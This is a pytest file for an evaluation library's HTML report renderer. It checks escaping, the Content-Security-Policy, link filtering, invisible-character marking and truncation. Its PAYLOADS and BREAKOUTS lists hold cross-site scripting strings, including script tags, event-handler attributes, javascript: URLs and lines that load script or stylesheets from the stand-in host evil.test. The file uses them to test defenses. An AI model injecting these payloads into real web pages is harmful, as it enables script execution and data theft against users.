"""The HTML report: one inert file, whose structure the data cannot change."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser

import pytest

from interactiveai_eval.model import (
    DeliveryReport,
    Evaluation,
    EvaluatorFailure,
    EvaluatorStats,
    ExperimentItemResult,
    ItemFailure,
)
from interactiveai_eval.reporting.html import render_html
from interactiveai_eval.result import ExperimentResult
from interactiveai_eval.tally import RunTally


def report(text="plain", *, label="good", url="https://example.test/run", **fields):
    """A result in which every text from outside is `text`, and every place of the report is filled."""
    item = {"input": text, "expected_output": {text: text}}
    failure = EvaluatorFailure(evaluator=text, error_type=text, message=text, traceback=text)
    known = {
        "name": text,
        "run_name": text,
        "description": text,
        "item_results": [
            ExperimentItemResult(
                index=0,
                item=item,
                output=text,
                evaluations=[
                    Evaluation(name=text, value=True, comment=text),
                    Evaluation(name=text + "2", value=text or "-"),
                    Evaluation(name="length", value=2.5),
                ],
                trace_id=text,
                dataset_run_id=None,
                item_id=text,
                evaluator_failures=[failure],
            )
        ],
        "item_failures": [
            ItemFailure(index=1, item=item, stage="task", error_type=text, message=text, traceback=text, attempts=2)
        ],
        "run_evaluations": [Evaluation(name=text, value=label, comment=text)],
        "run_evaluator_failures": [failure],
        "evaluator_stats": [EvaluatorStats(name=text, total_runs=2, failed_runs=1)],
        "delivery": DeliveryReport(by_kind={"scores": {"rejected": 1}}),
        "dataset_run_url": url,
        "completed": False,
    }
    return ExperimentResult(**{**known, **fields})


def page(*results):
    return "".join(render_html(results))


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes; and apart from these its texts and values."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.texts = []
        self.values = {}
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, tuple(name for name, _ in attributes)))
        for name, value in attributes:
            self.values.setdefault(name, []).append(value)

    def handle_endtag(self, tag):
        self.elements.append(("/" + tag, ()))

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        self.elements.append(("comment", ()))

    def handle_decl(self, decl):
        self.elements.append(("declaration", ()))

    def handle_pi(self, data):
        self.elements.append(("instruction", ()))

    def unknown_decl(self, data):
        self.elements.append(("unknown declaration", ()))


BREAKOUTS = [
    "",
    "'",
    '"',
    "'>",
    '">',
    "</div>",
    "</td></tr></table>",
    "</title>",
    "</style>",
    "-->",
    "]]>",
    "&quot;>",
    "\x00>",
]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import '//evil.test/x.css';</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><input name=a autofocus></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href='data:x'></math>",
    "<template><b></template>",
    "<plaintext>",
    "<textarea><noscript><xmp>",
    "<!-- <b>",
    "<![CDATA[<b>",
    "<?php echo 1 ?>",
    "<!doctype x>",
    " onmouseover=alert(1) x=",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;b&#62;",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_the_data_says_does_not_change_the_structure(payload):
    """SECURITY_CASES S38: 312 hostile texts in every place of the page, against a harmless one."""
    plain = Skeleton(page(report()))

    for breakout in BREAKOUTS:
        hostile = Skeleton(page(report(breakout + payload, label=breakout + payload)))
        assert hostile.elements == plain.elements
        assert hostile.values["class"] == plain.values["class"]
        assert hostile.values["href"] == plain.values["href"]


def test_texts_arrive_as_they_are():
    text = "<b>1 < 2 && \"3\" > '2'</b> &amp;"

    assert Skeleton(page(report(text))).texts.count(text) >= 8


def test_the_policy_allows_the_one_style_sheet_and_nothing_else():
    text = page(report())
    [style] = re.findall("<style>(.*?)</style>", text, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()

    assert (
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
        f"style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'\">"
    ) in text
    assert text.index("Content-Security-Policy") < text.index("<title>") < text.index("<style>")


def test_there_is_nothing_to_run_and_nothing_to_fetch():
    skeleton = Skeleton(page(report(), report()))
    names = {name for _, attributes in skeleton.elements for name in attributes}

    assert {tag for tag, _ in skeleton.elements} & {
        "script",
        "link",
        "img",
        "iframe",
        "object",
        "form",
        "base",
    } == set()
    assert [name for name in names if name.startswith("on") or name in ("style", "src", "srcset", "action")] == []
    assert "url(" not in page(report())
    assert "@import" not in page(report())


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "//x.test",
    ],
)
def test_only_addresses_of_the_web_become_links(url):
    """SECURITY_CASES S40: `javascript:` survives escaping."""
    skeleton = Skeleton(page(report(url=url)))

    assert skeleton.values["href"] == ["#run-1-failure"]
    assert url.strip() in skeleton.texts


def test_the_link_to_the_server_gives_nothing_away():
    assert '<a href="https://example.test/run" rel="noopener noreferrer">https://example.test/run</a>' in page(report())


def test_control_and_invisible_characters_are_shown_as_marks():
    nasty = "\u202e\u2066\u200b\ufeff\x1b\x00\x85\u2028\U000e0041\ud800"
    text = page(report(nasty))

    assert [sign for sign in nasty if sign in text] == []
    assert (
        "&lt;U+202E&gt;&lt;U+2066&gt;&lt;U+200B&gt;&lt;U+FEFF&gt;&lt;U+001B&gt;&lt;U+0000&gt;&lt;U+0085&gt;"
        "&lt;U+2028&gt;&lt;U+E0041&gt;&lt;U+D800&gt;"
    ) in text
    assert text.encode("utf-8")


def test_scripts_that_need_joiners_keep_them():
    for text in (
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "caf\u00e9",
    ):
        assert text in Skeleton(page(report(text))).texts


def test_long_values_are_cut_with_a_mark():
    """SECURITY_CASES S42: an output of 10 MB."""
    text = page(report(item_results=[report().item_results[0].replaced(output="x" * 10_000_000)]))

    assert "xxx \u2026 [9,996,000 more characters]</div>" in text
    assert len(text) < 30_000


def test_failures_stand_in_their_place_with_their_traceback():
    failure = ItemFailure(
        index=0,
        item={"input": "Atlantis"},
        stage="task",
        error_type="KeyError",
        message="'x'",
        traceback="Trace",
        attempts=3,
    )
    text = page(report(item_failures=[failure]))

    assert '<a class="bad" href="#run-1-failure">1</a>' in text
    assert (
        '<tr id="run-1-failure" class="failed"><th class="place" scope="row" title="0 ms, 3 attempts">1</th>'
        '<td data-label="Input"><div class="value">Atlantis</div></td>'
        '<td data-label="Expected"><div class="value"></div></td>'
        '<td data-label="Output"><p class="error"><b>task</b> KeyError</p><div class="value">&#39;x&#39;</div>'
        '<details><summary>Traceback</summary><div class="value">Trace</div></details></td>'
        '<td data-label="Scores"><span class="bad">failed after 3 attempts</span></td></tr>'
    ) in text


def test_one_result_is_shown_with_its_figures_and_its_items_open():
    text = page(report("Cities"))

    assert "<title>Cities</title>" in text
    assert "<h1>Cities</h1>" in text
    assert "<div><dt>Items</dt><dd><b>2</b></dd></div>" in text
    assert "<div><dt>length</dt><dd><b>2.500</b></dd></div>" in text
    assert '<span class="note">0.207\u20131.000</span>' in text
    assert '<details class="all" open>\n<summary>2 items</summary>' in text


def test_several_results_begin_with_a_comparison():
    first = report("a", item_failures=[], item_results=report().item_results[:1])
    text = page(first, report("b"))

    assert "<h1>2 experiments</h1>" in text
    assert '<th scope="row"><a href="#run-1">a</a></th><td class="n">1</td><td class="n">0</td>' in text
    assert '<th scope="row"><a href="#run-2">b</a></th><td class="n">2</td><td class="n bad">1</td>' in text
    assert text.count("<section id=") == 2
    assert text.count('<details class="all">') == 1, "items are folded where nothing failed"


def test_results_that_were_not_kept_say_so():
    tally = RunTally()
    tally.add_result([Evaluation(name="accuracy", value=True)])

    text = page(report(item_results=[], item_failures=[], tally=tally))

    assert "The results of single items were not kept." in text
    assert "<div><dt>Items</dt><dd><b>1</b></dd></div>" in text


def test_many_items_are_cut_but_failures_are_not_lost():
    [result] = report().item_results
    [failure] = report().item_failures
    text = page(
        report(
            item_results=[result.replaced(index=index) for index in range(2500)],
            item_failures=[failure.replaced(index=2500)],
        )
    )

    assert text.count("<tr") == 2001
    assert text.count('class="failed"') == 1
    assert "501 more items not shown." in text


def test_many_labels_are_cut():
    rows = [
        report().item_results[0].replaced(evaluations=[Evaluation(name="label", value=f"l{n}")], index=n)
        for n in range(20)
    ]

    assert "<li>l11 <b>1</b></li><li>8 more</li></ul>" in page(report(item_results=rows))
